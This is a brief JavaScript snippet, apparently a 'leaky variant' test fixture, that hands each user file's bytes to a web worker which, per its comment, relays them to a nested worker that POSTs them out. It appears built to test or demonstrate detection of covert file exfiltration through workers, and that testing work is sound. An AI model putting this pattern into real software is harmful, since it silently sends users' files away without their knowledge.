// Leaky variant: hands each file to a worker, which hands it to a nested worker that POSTs it.
const outerWorker = new Worker('/_astro/leak-outer-worker.js');
window.__leakOnFile((file) => file.arrayBuffer().then((bytes) => outerWorker.postMessage(bytes)));
